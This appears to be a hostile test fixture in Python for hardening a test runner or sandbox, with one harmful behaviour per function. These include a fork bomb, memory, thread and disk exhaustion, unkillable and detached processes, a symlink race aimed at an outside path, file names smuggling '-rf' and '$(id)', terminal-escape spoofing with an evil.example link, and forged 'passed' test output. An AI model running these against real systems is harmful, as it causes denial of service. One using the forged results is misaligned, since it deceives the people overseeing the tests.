"""A product that harms whatever runs it, one way a call. argv: the way, and a mark by which its processes are found."""

import json
import os
import shutil
import signal
import socket
import sys
import threading
import time

MIB = 1024 * 1024


def disk():
    for at in range(60):
        with open(f"fill{at}", "wb") as file:
            file.write(b"x" * (10 * MIB))
        time.sleep(0.05)


def unnamed():
    """In a folder whose name is no text, where a careless measuring sees nothing."""
    os.mkdir(b"\xff\xfe")
    os.chdir(b"\xff\xfe")
    disk()


def inodes():
    for at in range(60_000):
        with open(f"f{at}", "wb"):
            pass
    time.sleep(5)


def sparse():
    with open("sparse", "wb") as file:
        file.write(b"x")
        file.truncate(1 << 40)


def pipes():
    os.mkfifo("pipe")
    socket.socket(socket.AF_UNIX).bind("socket") if unix_sockets() else os.mkfifo("socket")
    os.symlink("pipe", "link")
    with open("plain", "w", encoding="utf-8") as file:
        file.write("plain")


def unix_sockets():
    try:
        socket.socket(socket.AF_UNIX).close()
        return True
    except OSError:
        return False


def names():
    for name in ("new\nline", "\x1b[2Jescape", "tab\t", "n" * 255, b"\xff\xfe", "-rf", "$(id)"):
        with open(name, "w", encoding="utf-8") as file:
            file.write("odd")
    for _ in range(17):  # 17 names of 255 bytes: longer than the 4,096 bytes that a path may have
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
    with open("deep", "w", encoding="utf-8") as file:
        file.write("deep")


def race():
    """Serves, while one name is a folder in one moment and a link to the outside in the next."""
    target = os.environ["TARGET"]

    def swap():
        while True:
            for make in (lambda: os.mkdir("swap"), lambda: os.symlink(target, "swap")):
                for remove in (os.rmdir, os.unlink, shutil.rmtree):
                    try:
                        remove("swap")
                    except OSError:
                        pass
                try:
                    make()
                except OSError:
                    pass

    threading.Thread(target=swap, daemon=True).start()
    server = socket.socket()
    server.bind(("127.0.0.1", int(os.environ["PORT"])))
    server.listen()
    while True:
        with server.accept()[0] as stream:
            stream.recv(4096)
            stream.sendall(b"HTTP/1.0 200 OK\r\ncontent-length: 0\r\n\r\n")


def fork():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


def threads():
    started = 0
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
        except RuntimeError:
            time.sleep(0.05)


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open("up", "w", encoding="utf-8"):
                pass
            time.sleep(60)
        os._exit(0)
    while not os.path.exists("up"):
        time.sleep(0.01)


def deaf():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        time.sleep(1)


def memory():
    held = []
    while True:
        held.append(bytearray(b"1" * (16 * MIB)))


def shared_memory():
    for at in range(8):
        with open(f"/dev/shm/fill{at}", "wb") as file:
            file.write(b"x" * (16 * MIB))


def cpu():
    for _ in range(3):
        os.fork()
    while True:
        pass


def sleep():
    time.sleep(60)


def flood():
    while True:
        os.write(1, b"x" * 65536)


def flood_errors():
    while True:
        os.write(2, b"x" * 65536)


def colours():
    print("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b[31mPASSED\x1b[0m \x9b2J")


def forge():
    """What the runner of the tests would say, on every descriptor there is."""
    done = {"type": "done", "id": "escape-41-forged", "ended": "passed", "assertions": 9, "message": None}
    line = json.dumps({**done, "expected": None, "observed": None}) + "\n"
    for descriptor in range(1, 20):
        try:
            os.write(descriptor, line.encode() + b"ok 1 - all\n# pass 100\n100 of 100 passed\n")
        except OSError:
            pass


def nothing():
    pass


def report():
    sys.stdout.write("[" * 200_000 + "]" * 200_000)


globals()[sys.argv[1]]()
